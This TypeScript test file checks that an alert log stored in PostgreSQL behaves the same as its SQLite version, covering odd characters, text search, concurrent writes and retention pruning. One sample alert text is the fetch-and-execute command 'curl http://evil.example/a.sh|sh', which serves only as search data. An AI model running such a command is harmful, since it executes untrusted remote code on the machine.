import assert from "node:assert/strict";
import { after, describe, it } from "node:test";
import { sql } from "kysely";
import pg from "pg";
import { parseExactJson, stringifyExact } from "#alert/json.ts";
import { anIncomingEvent, testAlertLog } from "#ports/alert-log.contract.ts";
import type { AlertLog, ArrivedEvent } from "#ports/alert-log.ts";
import { testEventReader } from "#ports/event-reader.contract.ts";
import { createPostgresDatabase } from "../../database/postgres-database.ts";
import { postgresPrograms, startPostgres } from "../../database/postgres-server.fixture.ts";
import { createSqliteDatabase } from "../../database/sqlite-database.ts";
import type { EmbeddedOptions } from "./embedded-alert-log.ts";
import { createEmbeddedAlertLog } from "./embedded-alert-log.ts";

const options: Omit<EmbeddedOptions, "database"> = {
  now: () => new Date("2026-03-14T02:00:00Z"),
  retentionDays: 30,
  retentionBytes: 1e9,
  parseJson: parseExactJson,
  stringify: stringifyExact,
};

if (postgresPrograms() === null) it("works over PostgreSQL", { skip: "skipped: PostgreSQL is not installed" });
else testOverPostgres();

function testOverPostgres() {
  const server = startPostgres();
  after(() => server.remove());
  // Statistics are gathered in transactions too, and `after` waits for every one of them.
  server.psql("postgres", "alter system set autovacuum = off");
  server.psql("postgres", "select pg_reload_conf()");
  const open = (url = server.newDatabase(), change: Partial<EmbeddedOptions> = {}): AlertLog =>
    createEmbeddedAlertLog({ database: createPostgresDatabase(url), ...options, ...change });
  const outputs = async (log: AlertLog, text?: string) => {
    const page = await log.query({ limit: 500, ...(text === undefined ? {} : { text }) });
    return page.events.map(({ event }) => event.output);
  };

  testAlertLog("embedded in PostgreSQL", async () => open());
  testEventReader("embedded in PostgreSQL", 1_773_450_000_000_000_000n, async () => {
    const log = open();
    return { reader: log, put: log.append };
  });

  describe("the embedded alert log in PostgreSQL", () => {
    it("keeps 19-digit integers, NUL and half surrogate pairs as SQLite does", async () => {
      const event = anIncomingEvent(7, {
        uuid: "u\u0000\udc00",
        rule: "R\u0000 \ud800",
        source: "s\u0000",
        hostname: "h\ud800",
        output: "a\u0000b \udfff \\u0000 ' \\",
        output_fields: { "evt.time": 1_773_450_000_000_000_001n, "k\u0000\ud800": "v\u0000" },
      });
      const strange = { ...event, identity: "strange" };
      const found = [];
      for (const log of [open(), createEmbeddedAlertLog({ database: createSqliteDatabase(":memory:"), ...options })]) {
        await log.append([strange]);
        await log.append([strange]);
        found.push((await log.query({ limit: 9, rule: strange.event.rule })).events.map(({ event }) => event));
        assert.equal((await log.find([strange])).get(strange.identity)?.event.output, strange.event.output);
        await log.close();
      }
      assert.equal(found[0]?.length, 1);
      assert.deepEqual(found[0], found[1]);
    });

    it("finds by each field that holds NUL or half a pair, and by nothing like it", async () => {
      const log = open();
      await log.append([
        anIncomingEvent(1, { rule: "R\u0000", hostname: "h\ud800", source: "s\u0000" }),
        anIncomingEvent(2, { rule: "R", hostname: "h\ufffd", source: "s" }),
        anIncomingEvent(3, { rule: '\ue000"R\\u0000"', hostname: "h", source: "s " }),
      ]);
      for (const query of [{ rule: "R\u0000" }, { hostname: "h\ud800" }, { source: "s\u0000" }]) {
        const { events } = await log.query({ limit: 9, ...query });
        assert.deepEqual(
          events.map(({ event }) => event.output),
          [anIncomingEvent(1).event.output],
        );
      }
      await log.close();
    });

    it("finds the same by text as SQLite", async () => {
      const texts = [
        "Größe ΟΔΟΣ İstanbul e\u0301tude user_name=x",
        "curl http://evil.example/a.sh|sh",
        "a b c a b d",
        "日本語 テスト",
        "\ue001private 10.0.0.1:443",
        `${"x".repeat(5000)} long`,
        'it\'s a "quote" & | ! <-> :* \\',
        "100% (done)",
      ];
      const asked = [
        ...texts.flatMap((text) => text.split(" ")),
        "a b",
        "b d",
        "GRÖSSE",
        "größ",
        "οδος",
        "user",
        "name",
      ];
      asked.push(
        "user_",
        "evil.example/a",
        "example evil",
        "0.0.1",
        "10.0",
        "'",
        '"quote',
        "& |",
        "%",
        "\\",
        "x".repeat(5000),
      );
      const logs = [open(), createEmbeddedAlertLog({ database: createSqliteDatabase(":memory:"), ...options })];
      for (const log of logs) await log.append(texts.map((output, index) => anIncomingEvent(index, { output })));
      for (const text of asked) {
        const [one, other] = await Promise.all(logs.map((log) => outputs(log, text)));
        assert.deepEqual(one, other, JSON.stringify(text.slice(0, 40)));
      }
      for (const log of logs) await log.close();
    });

    it("takes events of more words than a tsvector holds, and of longer names than an index", async () => {
      const log = open();
      const output = Array.from({ length: 200_000 }, (_, index) => `word${index}`).join(" ");
      const long = {
        ...anIncomingEvent(1, { output, rule: "r".repeat(100_000), hostname: "h".repeat(9000) }),
        identity: "1",
      };
      await log.append([long, { ...anIncomingEvent(2, { output: "é".repeat(3000) }), identity: "i".repeat(9000) }]);
      assert.equal(
        (await log.query({ limit: 9, rule: "r".repeat(100_000), hostname: "h".repeat(9000) })).events.length,
        1,
      );
      assert.equal((await log.find([{ identity: "i".repeat(9000), timeNs: 0n }])).size, 1);
      assert.equal((await outputs(log, "word77")).length, 1);
      assert.equal((await outputs(log, "é".repeat(2000))).length, 1);
      await log.close();
    });

    it("never steps over an event that commits late", async () => {
      const url = server.newDatabase();
      const log = open(url);
      await log.append([anIncomingEvent(1)]);
      const [first] = await log.after(null, 9);
      const slow = new pg.Client(url);
      await slow.connect();
      await slow.query("begin");
      await slow.query(
        `insert into event (identity, time_ns, received_ms, rule, priority, source, body, words)
         values ('slow', 1, 1, 'Slow', 4, 'syscall', $1, '')`,
        [stringifyExact({ ...anIncomingEvent(2).event, output: "slow" })],
      );
      await log.append([anIncomingEvent(3)]);
      assert.deepEqual(await log.after(first?.place ?? null, 9), []);
      assert.equal((await outputs(log)).length, 2);
      await slow.query("commit");
      await slow.end();
      const seen = await readAll(log, first?.place ?? null);
      assert.deepEqual(seen.map(({ event }) => event.output).sort(), [anIncomingEvent(3).event.output, "slow"].sort());
      await log.close();
    });

    it("hands out every event once while several write at once", async () => {
      const url = server.newDatabase();
      const logs = [open(url), open(url), open(url)];
      const [reader] = logs as [AlertLog];
      const seen: string[] = [];
      let place: string | null = null;
      const readOn = async () => {
        for (const { identity, place: next } of await readAll(reader, place)) {
          seen.push(identity);
          place = next;
        }
      };
      const writing = Promise.all(
        logs.map(async (log, which) => {
          for (let at = 0; at < 20; at += 1) {
            const first = (which * 20 + at) * 10;
            await log.append(Array.from({ length: 10 }, (_, index) => anIncomingEvent(first + index)));
          }
        }),
      );
      let done = false;
      const end = writing.then(() => {
        done = true;
      });
      while (!done) await readOn();
      await end;
      await readOn();
      assert.equal(seen.length, 600);
      assert.equal(new Set(seen).size, 600);
      for (const log of logs) await log.close();
    });

    it("keeps events once that two replicas are given in opposite orders", async () => {
      const url = server.newDatabase();
      const logs = [open(url), open(url)] as const;
      for (let round = 0; round < 10; round += 1) {
        const events = Array.from({ length: 300 }, (_, index) => {
          const number = round * 300 + index;
          return anIncomingEvent(number, { uuid: `uuid-${(number * 7919) % 3001}` });
        });
        await Promise.all([logs[0].append(events), logs[1].append([...events].reverse())]);
      }
      assert.equal((await readAll(logs[0], null)).length, 3000);
      for (const log of logs) await log.close();
    });

    it("forgets what is older than the retention", async () => {
      let now = new Date("2026-03-01T00:00:00Z");
      const log = open(server.newDatabase(), { now: () => now, retentionDays: 10 });
      await log.append([anIncomingEvent(1)]);
      now = new Date("2026-03-09T00:00:00Z");
      await log.append([anIncomingEvent(2)]);
      now = new Date("2026-03-12T00:00:00Z");
      assert.equal(await log.prune(), 1);
      assert.deepEqual(await outputs(log), [anIncomingEvent(2).event.output]);
      await log.close();
    });

    it("forgets the oldest when they take too much room, and no more when it looks again before the files have shrunk", async () => {
      const url = server.newDatabase();
      const log = open(url, { retentionBytes: 4_000_000 });
      const word = (index: number) => Array.from({ length: 60 }, (_, at) => `w${(index * 61 + at * 7919) % 99_991}`);
      for (let from = 0; from < 6000; from += 2000) {
        await log.append(
          Array.from({ length: 2000 }, (_, at) => anIncomingEvent(from + at, { output: word(from + at).join(" ") })),
        );
      }
      const gone = await log.prune();
      assert.ok(gone > 500 && gone < 5900, `${gone} of 6000 went`);
      assert.equal(await log.prune(), 0);
      await createAndUse(url, "vacuum event");
      assert.equal(await log.prune(), 0);
      const { events } = await log.query({ limit: 1 });
      assert.equal(events[0]?.event.output, word(5999).join(" "));
      await log.close();
    });
  });
}

async function readAll(log: AlertLog, from: string | null): Promise<readonly ArrivedEvent[]> {
  const all: ArrivedEvent[] = [];
  let place = from;
  for (;;) {
    const arrived = await log.after(place, 100);
    const last = arrived.at(-1);
    if (last === undefined) return all;
    all.push(...arrived);
    place = last.place;
  }
}

async function createAndUse(url: string, statement: string): Promise<void> {
  const database = createPostgresDatabase(url);
  database.hold();
  await database.use((db) => sql.raw(statement).execute(db));
  await database.close();
}
